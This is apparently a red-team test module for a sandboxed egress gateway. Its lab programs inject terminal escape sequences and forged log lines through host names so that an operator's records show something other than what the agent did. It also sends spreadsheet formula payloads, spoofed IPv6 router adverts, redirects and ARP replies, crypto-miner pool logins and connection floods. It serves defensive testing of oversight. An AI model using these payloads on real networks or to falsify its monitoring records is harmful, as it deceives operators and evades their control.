"""Programs of test_redteam_round14: blocked attempts from the sandbox whose host name (a TLS SNI, an HTTP Host, a
DNS question) carries terminal control sequences or a line break, so that the operator's own reading of the
records (`egress events` in a terminal) shows what the agent wrote instead of what it did.

`client_main VARIANT` (sandbox) makes one attempt and prints ``done``. The payloads (`PAYLOADS`) are plain text:
``erase`` moves the cursor up and erases lines (ECMA-48 CUU, EL: the rows printed before it vanish from the
screen), ``forge`` breaks the line and writes a fake record line naming another sandbox, ``title`` sets the
terminal's title (OSC 0), ``formula`` is a spreadsheet formula (a cell of `egress events -o csv` that a
spreadsheet would evaluate, CWE-1236). No byte of any of them leaves the lab: each attempt goes to blocked.lab
or the gateway's resolver, and is refused.
"""

from __future__ import annotations

import contextlib
import os
import socket
import ssl
import struct
import sys
import time

MARK = "rt14mark"
BLOCKED = "198.18.10.2"
RESOLVER = "10.203.1.1"
PAYLOADS = {
    "erase": f"{MARK}\x1b[1A\x1b[2K\x1b[1A\x1b[2K\x1b[1A\x1b[2K\x1b[8m",
    "forge": f"{MARK}\n2026-12-03 06:00:00.000 other 10.203.3.2:40000 -> 198.18.10.1:443/tcp allowed.lab policy x",
    "title": f"{MARK}\x1b]0;all clear\x1b\\",
    "formula": f'=HYPERLINK("http://{MARK}.example/"&A1,"all clear")',
}
"""What each variant writes where the host name goes (the names of the rows: ``sni-erase``, ``dns-forge`` ...)."""


def _hello(name: str) -> bytes:
    """A real ClientHello (Python's ssl module) whose SNI is ``name`` byte for byte: made with a placeholder of
    the same length (ssl accepts hostnames only, labels of 63 bytes at most), then the placeholder replaced."""
    raw = name.encode("ascii")
    placeholder = bytes(0x2E if i % 61 == 60 else 0x71 for i in range(len(raw)))  # "q", a dot every 61: labels
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname=placeholder.decode())
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    hello = outgoing.read()
    assert hello.count(placeholder) == 1
    return hello.replace(placeholder, raw)


def _tcp(port: int, data: bytes) -> None:
    with socket.create_connection((BLOCKED, port), timeout=5) as conn:
        conn.sendall(data)
        with contextlib.suppress(OSError):
            print(f"answer {conn.recv(4096)[:60]!r}", flush=True)


def _dns(name: str) -> None:
    """One A question whose first label is ``name``'s bytes (a label may hold any byte on the wire, RFC 2181 11)."""
    labels = [name.encode("ascii")[i : i + 63] for i in range(0, len(name), 63)] + [b"blocked", b"lab"]
    qname = b"".join(bytes([len(label)]) + label for label in labels) + b"\x00"
    header = struct.pack("!HHHHHH", int.from_bytes(os.urandom(2), "big"), 0x0100, 1, 0, 0, 0)
    query = header + qname + b"\x00\x01\x00\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(3)
        sock.sendto(query, (RESOLVER, 53))
        with contextlib.suppress(OSError):
            print(f"answer rcode {sock.recv(4096)[3] & 15}", flush=True)


def client_main() -> None:
    where, payload = sys.argv[1].split("-", 1)
    text = PAYLOADS[payload]
    if where == "sni":
        _tcp(443, _hello(text))
    elif where == "host":
        _tcp(80, f"GET / HTTP/1.1\r\nHost: {text}\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n".encode())
    elif where == "dns":
        _dns(text)
    print("done", flush=True)


def _icmp6_raw(interface: str) -> tuple[socket.socket, int]:
    """A raw ICMPv6 socket sending with hop limit 255 (neighbour discovery's, RFC 4861 6.1) on ``interface``,
    from its link-local address (the kernel picks it for a link-local destination); the kernel sums it."""
    scope = socket.if_nametoindex(interface)
    sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
    sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
    sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_LOOP, 0)  # the sender's own stack never takes it
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode())
    return sock, scope


def _mac(interface: str) -> bytes:
    with open(f"/sys/class/net/{interface}/address") as handle:
        return bytes.fromhex(handle.read().strip().replace(":", ""))


def router_advert(interface: str, prefix_only: bool = False) -> bytes:
    """A router advertisement: default router for 1,800 s, an autonomous prefix 2001:db8:77::/64 (SLAAC would
    give the gateway an address in it), a route information option for allowed.lab's 2001:db8:10::/64 (high
    preference: its traffic to the sandbox) and an MTU of 1,280. ``prefix_only``: no router, route or MTU, the
    prefix alone (the control's, which must not change how the sandbox reaches anything)."""
    head = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 0 if prefix_only else 1800, 0, 0)
    source = struct.pack("!BB", 1, 1) + _mac(interface)
    prefix = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 86400, 14400, 0) + socket.inet_pton(socket.AF_INET6, RA_PREFIX)
    route = struct.pack("!BBBBI", 24, 3, 64, 0x08, 86400) + socket.inet_pton(socket.AF_INET6, "2001:db8:10::")
    mtu = struct.pack("!BBHI", 5, 1, 0, 1280)
    return head + source + prefix + (b"" if prefix_only else route + mtu)


def redirect(interface: str, gateway_link_local: str) -> bytes:
    """An ICMPv6 redirect to the gateway: allowed.lab (2001:db8:10::1) is better reached through the sandbox's
    link-local address (the target)."""
    target = _link_local(interface)
    head = struct.pack("!BBHI", 137, 0, 0, 0) + socket.inet_pton(socket.AF_INET6, target)
    head += socket.inet_pton(socket.AF_INET6, "2001:db8:10::1")
    return head + struct.pack("!BB", 2, 1) + _mac(interface)


def _link_local(interface: str) -> str:
    with open("/proc/net/if_inet6") as handle:
        for line in handle:
            raw, _, _, scope, _, name = line.split()
            if name == interface and scope == "20":
                return socket.inet_ntop(socket.AF_INET6, bytes.fromhex(raw))
    raise RuntimeError(f"no link-local address on {interface}")


RA_PREFIX = "2001:db8:77::"


def _arp(interface: str, gateway_mac: bytes, claimed: str) -> None:
    """An ARP reply and a gratuitous request to the gateway: ``claimed`` (an address of the uplink's side, or the
    gateway's own) is at the sandbox's MAC."""
    mine = _mac(interface)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((interface, 0))
        ip = socket.inet_aton(claimed)
        for op, to in ((2, gateway_mac), (1, b"\xff" * 6)):
            arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, op) + mine + ip + (to if op == 2 else b"\x00" * 6) + ip
            sock.send(to + mine + b"\x08\x06" + arp)


def advice_main() -> None:
    """``advice_main KIND INTERFACE GATEWAY_LINK_LOCAL GATEWAY_MAC``: three of one piece of routing advice."""
    kind, interface, gateway_ll, gateway_mac = sys.argv[1:5]
    for _ in range(3):
        if kind in ("ra", "ra-prefix"):
            sock, scope = _icmp6_raw(interface)
            advert = router_advert(interface, prefix_only=kind == "ra-prefix")
            with sock:
                sock.sendto(advert, ("ff02::1", 0, 0, scope))
                sock.sendto(advert, (gateway_ll, 0, 0, scope))
        elif kind == "redirect":
            sock, scope = _icmp6_raw(interface)
            with sock:
                sock.sendto(redirect(interface, gateway_ll), (gateway_ll, 0, 0, scope))
        else:
            claimed = {"arp-uplink": "10.203.2.2", "arp-gateway": "10.203.1.1"}[kind]
            _arp(interface, bytes.fromhex(gateway_mac.replace(":", "")), claimed)
    print("done", flush=True)


STRATUM = (
    b'{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5.1"]}\n'
    b'{"id":2,"method":"mining.authorize","params":["' + MARK.encode() + b'.worker","x"]}\n'
)
XMRIG = (
    b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"' + MARK.encode() + b'","pass":"x",'
    b'"agent":"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0","algo":["rx/0"]}}\n'
)
ENDINGS = {
    "reset-stratum": (("198.18.10.3", 3333), STRATUM),
    "reset-xmrig": (("198.18.10.4", 3334), XMRIG),
    "reset-host": (("198.18.10.1", 80), f"GET /{MARK} HTTP/1.1\r\nHost: blocked.lab\r\n\r\n".encode()),
    "reset-sni": (("198.18.10.1", 443), b""),
    "fin-stratum": (("198.18.10.3", 3333), STRATUM),
    "reset-stratum-v6": (("2001:db8:10::3", 3333), STRATUM),
    "reset-stratum-paced": (("198.18.10.3", 3333), STRATUM),
    "reset-stratum-long-prefix": (("198.18.10.3", 3333), b"\n" * 17_000 + STRATUM),
}
"""Attempts that end as soon as they are sent: with a reset (``SO_LINGER`` 0), or half-closed then closed;
``paced``: the subscribe, 0.3 s, then the authorize and the reset (the front has handed it off by then);
``long-prefix``: 17,000 blank lines (past the front's peek and the stream cap, 16 KiB) before the Stratum."""


def ending_main() -> None:
    """``ending_main VARIANT``: connect, send the attempt in one write, end at once as the variant says."""
    variant = sys.argv[1]
    target, data = ENDINGS[variant]
    if variant == "reset-sni":
        data = _hello(f"{MARK}.pool.supportxmr.com")
    conn = socket.create_connection(target, timeout=5)
    if variant.endswith("paced"):
        first = data.index(b"\n") + 1
        conn.sendall(data[:first])
        time.sleep(0.3)
        data = data[first:]
    conn.sendall(data)
    if variant.startswith("reset"):
        conn.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    else:
        conn.shutdown(socket.SHUT_WR)
    conn.close()
    print("done", flush=True)


def flood_main() -> None:
    """``flood_main N``: Stratum once to the pool's allowed address (a ``mining`` record), then ``N`` connections
    to blocked.lab on ``N`` ports (each a ``direct-ip`` record of its own: the port is part of the aggregation
    key), opened and closed at once."""
    count = int(sys.argv[1])
    with socket.create_connection(("198.18.10.3", 3333), timeout=5) as conn:
        conn.sendall(STRATUM)
        with contextlib.suppress(OSError):
            conn.recv(4096)
    time.sleep(1.0)  # its record first
    refused = 0
    for port in range(20000, 20000 + count):
        try:
            socket.create_connection((BLOCKED, port), timeout=5).close()
        except OSError:
            refused += 1
    print(f"done {count} connections, {refused} refused", flush=True)
